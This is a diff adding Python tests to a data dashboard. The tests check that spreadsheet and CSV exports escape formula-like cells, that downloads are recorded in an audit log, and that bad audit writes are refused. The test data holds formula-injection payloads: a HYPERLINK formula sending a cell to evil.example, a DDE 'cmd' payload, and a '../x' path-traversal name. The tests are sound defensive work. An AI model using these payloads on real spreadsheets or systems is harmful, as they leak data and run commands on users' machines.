@@ -9,8 +9,10 @@ import re
 from datetime import UTC, date, datetime
 
 import pandas as pd
+import pytest
 from openpyxl import load_workbook
 
+from dashboard.api_client import ApiClient, ApiError
 from warehouse.exports import inert, to_csv_bytes, to_xlsx_bytes
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
@@ -90,3 +92,86 @@ def test_the_rule_itself():
     assert [inert(v) for v in ("-2+3", "-1e3", "+1+1", "-", "-2 -3")] == [
         "'-2+3", "'-1e3", "'+1+1", "'-", "'-2 -3",
     ]  # fmt: skip
+
+
+
+def test_downloading_a_table_as_shown_is_in_the_audit_log(panel):
+    """The table is made into a file in the panel; the click reports it to the API's audit log."""
+    panel("plans", role="admin")  # signs the admin in, to read the log
+    app = panel("plans", role="analyst")
+    app.download_button(key="plans:xlsx").click().run()
+    assert not app.error, [e.value for e in app.error]
+    admin = ApiClient(panel.api_url, panel.sessions["admin"].token)
+    (entry,) = admin.get("/api/v1/admin/audit", action="export.download")
+    assert (entry["actor_email"], entry["target_type"], entry["target_id"]) == (
+        "analyst@example.com", "panel_table", "plans",
+    )  # fmt: skip
+    assert entry["after"]["format"] == "xlsx" and entry["after"]["rows"] >= 1
+    # A user may not write into the audit log; a name that is not a file name is refused.
+    analyst = ApiClient(panel.api_url, panel.sessions["analyst"].token)
+    for body in ({"name": "../x", "format": "csv", "rows": 1, "columns": []},
+                 {"name": "x", "format": "pdf", "rows": 1, "columns": []}):  # fmt: skip
+        with pytest.raises(ApiError) as refused:
+            analyst.post("/api/v1/admin/audit/downloads", body)
+        assert refused.value.status == 422
+
+
+def _table_page():  # run by AppTest from its source: it imports what it uses
+    import decimal
+    from datetime import date
+
+    from dashboard import i18n, ui
+
+    ui.table(
+        [
+            {
+                "name": name,
+                "balance": i18n.number(balance, 2),
+                "share": i18n.percent(share),
+                "since": i18n.moment(since),
+                "day": i18n.day(date(2026, 11, 22)),
+                "last": i18n.moment(None),
+            }
+            for name, balance, share, since in (
+                ("=cmd|' /C calc'!A0", decimal.Decimal("1234.5"), 0.125, "2026-11-22T14:05:00+00:00"),
+                ("ada", decimal.Decimal("-2"), 0.5, "2026-11-23T08:00:00+00:00"),
+            )
+        ],
+        "people",
+    )
+
+
+def test_a_table_shown_with_localised_numbers_downloads_typed_cells(monkeypatch):
+    """The page shows "1 234,50" and "22.11.2026 14:05 UTC" (Russian); the spreadsheet gets the number and the
+    time, and the text that starts like a formula stays inert."""
+    from streamlit.delta_generator import DeltaGenerator
+    from streamlit.testing.v1 import AppTest
+
+    files: dict[str, bytes] = {}
+    original = DeltaGenerator.download_button
+
+    def keep(dg, label, data, *args, **kwargs):
+        files[kwargs["key"]] = data
+        return original(dg, label, data, *args, **kwargs)
+
+    monkeypatch.setattr(DeltaGenerator, "download_button", keep)
+    app = AppTest.from_function(_table_page)
+    app.session_state["locale"] = "ru"
+    app.run()
+    assert not app.exception, app.exception
+    shown = app.dataframe[0].value
+    assert list(shown["balance"]) == ["1\u202f234,50", "-2,00"] and shown["last"][0] == "—"
+
+    sheet = load_workbook(io.BytesIO(files["people:xlsx"])).active
+    rows = [[cell for cell in row] for row in sheet.iter_rows()]
+    column = {cell.value: index for index, cell in enumerate(rows[0])}
+    first, second = rows[1], rows[2]
+    assert first[column["name"]].value == "'=cmd|' /C calc'!A0"
+    assert first[column["balance"]].data_type == "n" and first[column["balance"]].value == 1234.5
+    assert second[column["balance"]].value == -2
+    assert first[column["share"]].value == 12.5
+    assert first[column["since"]].is_date and first[column["since"]].value == datetime(2026, 11, 22, 14, 5)
+    assert first[column["day"]].is_date
+    assert first[column["last"]].value is None
+    table = list(csv.DictReader(io.StringIO(files["people:csv"].decode("utf-8"))))
+    assert table[0]["balance"] == "1234.5" and table[0]["name"].startswith("'=")
